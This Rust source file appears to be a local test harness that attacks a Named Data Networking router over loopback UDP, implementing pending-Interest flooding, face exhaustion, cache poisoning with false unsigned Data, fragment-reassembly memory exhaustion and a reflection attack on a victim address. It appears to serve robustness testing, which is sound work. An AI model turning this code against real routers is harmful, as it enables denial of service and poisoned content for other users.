//! Attacks by datagrams.

use std::collections::BTreeMap;
use std::io;
use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

use namely_security::{Signer, sign_data};
use namely_wire::{
    DataBuilder, InterestBuilder, LpFraming, LpHeaders, Name, PACKET_OCTETS_MAX, encode_lp_header,
};

use super::pace::{AttackCounts, End, STEP, name, nonce};
use crate::attacks::RouterAddresses;

/// Total number of pending Interests.
const INTERESTS: u64 = 300_000;

/// Number of peers that send the Interests, each from an address of its own.
const PEERS: u64 = 12;

/// An hour.
const LIFETIME_MS: u64 = 3_600_000;

/// Number of datagrams, each of which creates a face.
const SOURCES: u64 = 10_000;

/// Number of objects per second for which the attacker sends false packets. The rate exceeds that
/// of the honest fetch. It is low enough that the attack does not overload the producer, which
/// receives the Interests.
const OBJECTS_PER_SECOND: f64 = 100.0;

/// Content of a first fragment, octets.
const FRAGMENT_OCTETS: usize = 1000;

/// Number of first fragments. Their content is twice the reassembly memory of all faces.
const FRAGMENTS: u64 = 128 * 1024;

/// Number of peers that send the fragments.
const FRAGMENT_PEERS: u64 = 256;

/// Interests per second that the attacker sends from the victim's address, 0.4 MB/s. The victim
/// requested nothing.
const REFLECTED_PER_SECOND: f64 = 7000.0;

/// Index of the victim's address among the attacker's addresses. The addresses before it create
/// faces.
const VICTIM: u64 = SOURCES;

/// Returns an address of this machine's own network that only the attacker uses.
fn source(number: u64) -> Ipv4Addr {
    let number = number as u32;
    Ipv4Addr::from(u32::from(Ipv4Addr::new(127, 1, 0, 1)).wrapping_add(number))
}

fn peer(addresses: &RouterAddresses, address: Ipv4Addr) -> io::Result<UdpSocket> {
    let socket = UdpSocket::bind((address, 0))?;
    // A full send buffer must not block the attacker.
    socket.set_nonblocking(true)?;
    socket.connect(addresses.udp)?;
    Ok(socket)
}

/// Sends Interests with a lifetime of an hour: half of them for segments past the end of an object,
/// half below a prefix whose upstream is silent. All peers but one close before the end.
pub(super) fn pit(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let (object, silent) = (name(&addresses.object)?, name(&addresses.silent)?);
    let mut peers = Vec::new();
    for n in 0..PEERS {
        peers.push(peer(addresses, source(n))?);
    }
    let sent = end.spread(INTERESTS, 0.75, |n| {
        let absent = 1_000_000 + n;
        let name =
            if n % 2 == 0 { object.join_segment(absent) } else { silent.join_generic(absent.to_string()) };
        let interest = InterestBuilder::new(name).nonce(nonce(n)).lifetime_ms(LIFETIME_MS).build();
        peers[(n % PEERS) as usize].send(&interest).map(|_| ())
    });
    peers.truncate(1);
    end.wait();
    Ok(BTreeMap::from([("interests", sent)]))
}

/// Sends two octets from each of ten thousand addresses.
pub(super) fn faces(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let sent = end.spread(SOURCES, 0.75, |n| peer(addresses, source(n))?.send(&[0x64, 0]).map(|_| ()));
    end.wait();
    Ok(BTreeMap::from([("sources", sent)]))
}

/// Sends unsolicited Data: metadata, manifest and first segment of the next objects of the honest
/// consumers. Another peer requests them first, so that Interests pend.
pub(super) fn poison(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let (asker, poisoner) = (peer(addresses, source(0))?, peer(addresses, source(1))?);
    let objects = (end.length.as_secs_f64() * OBJECTS_PER_SECOND) as u64;
    let pushed = end.spread(objects.min(addresses.fresh_objects), 0.9, |n| {
        for (number, (request, data)) in (n * 3..).zip(poisoned(addresses, n)?) {
            asker.send(&request.nonce(nonce(number)).lifetime_ms(1000).build())?;
            poisoner.send(&data)?;
            // The router may read the first copy before the Interest, which arrives on another
            // socket. The second copy arrives after the Interest.
            std::thread::sleep(Duration::from_micros(300));
            poisoner.send(&data)?;
        }
        Ok(())
    });
    end.wait();
    Ok(BTreeMap::from([("objects", pushed)]))
}

/// Returns an Interest and false Data for each packet by which object `n` is found.
fn poisoned(addresses: &RouterAddresses, n: u64) -> io::Result<[(InterestBuilder, Vec<u8>); 3]> {
    use namely_security::manifest_name;
    use namely_wire::rdr::{discovery_name, metadata_name};
    let object = name(&format!("{}/{n}", addresses.fresh))?;
    let versioned = name(&format!("{}/{n}/{}", addresses.fresh, addresses.fresh_version))?;
    let metadata = metadata_name(object.as_name(), u64::MAX / 2);
    let question = discovery_name(object.as_name());
    let manifest = manifest_name(versioned.as_name(), 0);
    let segment = versioned.join_segment(0);
    let exact = |name: &Name| InterestBuilder::new(name.clone());
    Ok([
        (InterestBuilder::new(question).can_be_prefix().must_be_fresh(), lie(&metadata)?),
        (exact(&manifest), lie(&manifest)?),
        (exact(&segment), lie(&segment)?),
    ])
}

/// Returns Data named `name`, fresh for an hour, with a digest in place of a signature.
fn lie(name: &Name) -> io::Result<Vec<u8>> {
    let builder = DataBuilder::new(name.as_name()).freshness_ms(LIFETIME_MS);
    sign_data(&builder, b"not what you asked for", &Signer::digest_sha256()).map_err(io::Error::other)
}

/// Sends first fragments of packets that are never completed.
pub(super) fn fragments(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let mut peers = Vec::new();
    for n in 0..FRAGMENT_PEERS {
        peers.push(peer(addresses, source(n))?);
    }
    let content = vec![0x55; FRAGMENT_OCTETS];
    let frag_count = (PACKET_OCTETS_MAX / FRAGMENT_OCTETS) as u64;
    let sent = end.spread(FRAGMENTS, 0.9, |n| {
        let framing = LpFraming { sequence: Some(n * 16), frag_index: 0, frag_count, ..LpFraming::default() };
        let mut frame = Vec::new();
        encode_lp_header(&LpHeaders::default(), &framing, None, Some(content.len()), &mut frame);
        frame.extend_from_slice(&content);
        peers[(n % FRAGMENT_PEERS) as usize].send(&frame).map(|_| ())
    });
    end.wait();
    Ok(BTreeMap::from([("fragments", sent)]))
}

/// Sends Interests for segments of a cached object from an address that answers nothing. To the
/// router, this is the address of a victim that requested nothing. Counts the octets that arrive
/// there.
pub(super) fn reflection(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let (object, victim) = (name(&addresses.object)?, peer(addresses, source(VICTIM))?);
    victim.set_nonblocking(false)?;
    victim.set_read_timeout(Some(STEP))?;
    let (mut sent_octets, arrived, end) = (0, victim.try_clone()?, *end);
    let started = std::time::Instant::now();
    // Reads during the whole attack, because a socket's buffer holds only a small part of the Data.
    let reading = std::thread::spawn(move || {
        let (mut victim_octets, mut datagram) = (0, vec![0; 1 << 16]);
        while end.is_ahead() {
            victim_octets += arrived.recv(&mut datagram).map_or(0, |octets| octets as u64);
        }
        victim_octets
    });
    let interests = (end.length.as_secs_f64() * REFLECTED_PER_SECOND) as u64;
    let sent = end.spread(interests, 1.0, |n| {
        let segment = object.join_segment(n % addresses.segments.max(1));
        let interest = InterestBuilder::new(segment).nonce(nonce(n)).lifetime_ms(1000).build();
        sent_octets += interest.len() as u64;
        victim.send(&interest).map(|_| ())
    });
    let victim_octets = reading.join().map_err(|_| io::Error::other("the receiving thread has ended"))?;
    let kbit_s = (victim_octets as f64 * 8.0 / 1000.0 / started.elapsed().as_secs_f64()) as u64;
    Ok(BTreeMap::from([
        ("interests", sent),
        ("sent_octets", sent_octets),
        ("victim_octets", victim_octets),
        ("victim_kbit_s", kbit_s),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_sources_differ_and_stay_local() {
        let addresses: std::collections::BTreeSet<_> = (0..SOURCES).map(source).collect();
        assert_eq!(addresses.len() as u64, SOURCES);
        assert!(addresses.iter().all(|a| a.is_loopback() && *a != Ipv4Addr::LOCALHOST));
    }
}
